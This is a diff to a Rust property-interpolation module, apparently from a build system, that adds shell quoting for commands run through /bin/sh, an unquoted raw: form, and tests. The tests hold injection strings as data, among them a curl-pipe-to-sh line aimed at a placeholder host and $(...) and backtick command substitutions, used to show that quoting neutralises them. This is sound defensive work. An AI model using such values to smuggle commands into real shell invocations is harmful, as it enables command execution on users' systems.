@@ -3,6 +3,14 @@
 //! `%(prop:NAME)s` is replaced by the property's value; `%(prop:NAME:-DEFAULT)s` uses
 //! DEFAULT when it is not set; `%%` is a literal `%`. A property that is not set and has
 //! no default is an error, never an empty string.
+//!
+//! A value is data wherever it lands. In a command string that runs through `/bin/sh -c`
+//! ([`Properties::render_shell`]) each value is shell-quoted: one word, whatever its
+//! bytes (a list: one word per item). `%(raw:NAME)s` (and `%(raw:NAME:-DEFAULT)s`)
+//! inserts the text unquoted, for configs that build shell syntax from properties they
+//! control; it is unsafe with values from outside. Everywhere else (argv items, env
+//! values, file contents, paths, conditions) values are inserted as they are, and
+//! `raw:` is the same as `prop:`.
 
 use serde_json::{Map, Value};
 use std::fmt;
@@ -51,8 +59,19 @@ impl Properties {
         Value::Object(out)
     }
 
-    /// Replaces every `%(prop:...)s` in `template`.
+    /// Replaces every `%(prop:...)s` in `template` with the bare value, for places where
+    /// a value is not shell syntax.
     pub fn render(&self, template: &str) -> Result<String, RenderError> {
+        self.render_in(template, Quoting::None)
+    }
+
+    /// Replaces every `%(prop:...)s` in a shell command string with the value quoted
+    /// for `/bin/sh`; `%(raw:...)s` stays unquoted.
+    pub fn render_shell(&self, template: &str) -> Result<String, RenderError> {
+        self.render_in(template, Quoting::Shell)
+    }
+
+    fn render_in(&self, template: &str, quoting: Quoting) -> Result<String, RenderError> {
         let mut out = String::with_capacity(template.len());
         let mut rest = template;
         while let Some(i) = rest.find('%') {
@@ -71,29 +90,73 @@ impl Properties {
             let end = body.find(")s").ok_or_else(|| {
                 RenderError::Malformed(format!("unterminated {:?}", truncate(rest)))
             })?;
-            out.push_str(&self.lookup(&body[..end])?);
+            out.push_str(&self.lookup(&body[..end], quoting)?);
             rest = &body[end + 2..];
         }
         out.push_str(rest);
         Ok(out)
     }
 
-    fn lookup(&self, spec: &str) -> Result<String, RenderError> {
-        let Some(spec) = spec.strip_prefix("prop:") else {
+    fn lookup(&self, spec: &str, quoting: Quoting) -> Result<String, RenderError> {
+        let (body, quoting) = if let Some(body) = spec.strip_prefix("prop:") {
+            (body, quoting)
+        } else if let Some(body) = spec.strip_prefix("raw:") {
+            (body, Quoting::None)
+        } else {
             return Err(RenderError::Malformed(format!(
-                "unknown source in %({spec})s (use prop:NAME)"
+                "unknown source in %({spec})s (use prop:NAME or raw:NAME)"
             )));
         };
-        let (name, default) = match spec.split_once(":-") {
+        let (name, default) = match body.split_once(":-") {
             Some((n, d)) => (n, Some(d)),
-            None => (spec, None),
+            None => (body, None),
         };
-        match (self.values.get(name), default) {
-            (Some(v), _) => Ok(display(v)),
-            (None, Some(d)) => Ok(d.to_owned()),
-            (None, None) => Err(RenderError::Missing(name.to_owned())),
+        let value = match (self.values.get(name), default) {
+            (Some(v), _) => v,
+            (None, Some(d)) => return Ok(quoting.apply(&Value::String(d.to_owned()))),
+            (None, None) => return Err(RenderError::Missing(name.to_owned())),
+        };
+        Ok(quoting.apply(value))
+    }
+}
+
+/// How an interpolated value is written.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Quoting {
+    /// As it is: the value is data where it lands.
+    None,
+    /// For `/bin/sh -c`: one quoted word per value (per item of a list).
+    Shell,
+}
+
+impl Quoting {
+    fn apply(self, v: &Value) -> String {
+        match (self, v) {
+            (Quoting::None, v) => display(v),
+            (Quoting::Shell, Value::Array(items)) => items
+                .iter()
+                .map(|item| shell_quote(&display(item)))
+                .collect::<Vec<_>>()
+                .join(" "),
+            (Quoting::Shell, v) => shell_quote(&display(v)),
         }
     }
+}
+
+/// `s` as one `/bin/sh` word: in single quotes, inside which nothing is special, with
+/// each `'` written as `'\''` (close, an escaped quote, reopen). Empty is `''`.
+pub fn shell_quote(s: &str) -> String {
+    let mut out = String::with_capacity(s.len() + 2);
+    out.push('\'');
+    for c in s.chars() {
+        if c == '\'' {
+            out.push_str("'\\''");
+        } else {
+            out.push(c);
+        }
+    }
+    out.push('\'');
+    out
 }
 
 /// How a property reads inside a string: strings bare, lists space-separated, other
@@ -165,6 +228,101 @@ mod tests {
             props().render("%(kw:x)s"),
             Err(RenderError::Malformed(_))
         ));
+    }
+
+    #[test]
+    fn shell_quoting_makes_one_literal_word() {
+        assert_eq!(shell_quote("main"), "'main'");
+        assert_eq!(shell_quote(""), "''");
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
+        assert_eq!(shell_quote("$(id)"), "'$(id)'");
+        assert_eq!(shell_quote("`id`"), "'`id`'");
+        assert_eq!(shell_quote("a\nb"), "'a\nb'");
+        assert_eq!(shell_quote("x;curl e.invalid|sh"), "'x;curl e.invalid|sh'");
+    }
+
+    /// What `/bin/sh` makes of a quoted value: its arguments, one per line.
+    fn sh_words(command_tail: &str) -> Vec<String> {
+        let out = std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg(format!(
+                "for a in {command_tail}; do printf '[%s]' \"$a\"; done"
+            ))
+            .output()
+            .expect("sh runs");
+        assert!(out.status.success(), "{out:?}");
+        let text = String::from_utf8(out.stdout).expect("utf-8");
+        text.strip_prefix('[')
+            .and_then(|t| t.strip_suffix(']'))
+            .map(|t| t.split("][").map(str::to_owned).collect())
+            .unwrap_or_default()
+    }
+
+    #[test]
+    fn the_shell_reads_quoted_values_back_exactly() {
+        let hostile = [
+            "x; touch PWNED",
+            "$(touch PWNED2)",
+            "`id`",
+            "it's 'quoted' ''",
+            "a\nb\r\tc",
+            "$HOME \\ \" * ? [a] ~ # & | > <",
+            "",
+            "'",
+            "-n",
+        ];
+        for value in hostile {
+            let mut p = Properties::default();
+            p.set("v", json!(value), "force");
+            let rendered = p.render_shell("%(prop:v)s").unwrap();
+            assert_eq!(sh_words(&rendered), vec![value.to_owned()], "{rendered}");
+        }
+    }
+
+    #[test]
+    fn shell_rendering_quotes_values_defaults_and_list_items() {
+        let mut p = props();
+        p.set("evil", json!("$(id)"), "force");
+        p.set("empty", json!(""), "force");
+        p.set("none", json!([]), "step");
+        assert_eq!(
+            p.render_shell("git checkout %(prop:branch)s && echo %(prop:evil)s")
+                .unwrap(),
+            "git checkout 'main' && echo '$(id)'"
+        );
+        assert_eq!(p.render_shell("ls %(prop:files)s").unwrap(), "ls 'a' 'b'");
+        assert_eq!(p.render_shell("x %(prop:empty)s y").unwrap(), "x '' y");
+        assert_eq!(p.render_shell("rm %(prop:none)s").unwrap(), "rm ");
+        assert_eq!(
+            p.render_shell("%(prop:missing:-a b)s #%(prop:buildnumber)s")
+                .unwrap(),
+            "'a b' #'7'"
+        );
+        assert_eq!(
+            sh_words(&p.render_shell("%(prop:files)s %(prop:empty)s").unwrap()),
+            vec!["a", "b", ""]
+        );
+    }
+
+    #[test]
+    fn the_raw_form_inserts_text_unquoted() {
+        let mut p = props();
+        p.set("flags", json!("-O2 -g"), "builder");
+        assert_eq!(
+            p.render_shell("cc %(raw:flags)s %(prop:flags)s").unwrap(),
+            "cc -O2 -g '-O2 -g'"
+        );
+        assert_eq!(p.render_shell("%(raw:nope:-$X)s").unwrap(), "$X");
+        assert_eq!(p.render_shell("%(raw:files)s").unwrap(), "a b");
+        assert_eq!(
+            p.render_shell("%(raw:nope)s"),
+            Err(RenderError::Missing("nope".into()))
+        );
+        // Where values are data, raw and prop are the same and nothing is quoted.
+        assert_eq!(
+            p.render("%(raw:flags)s|%(prop:flags)s").unwrap(),
+            "-O2 -g|-O2 -g"
+        );
     }
 
     #[test]
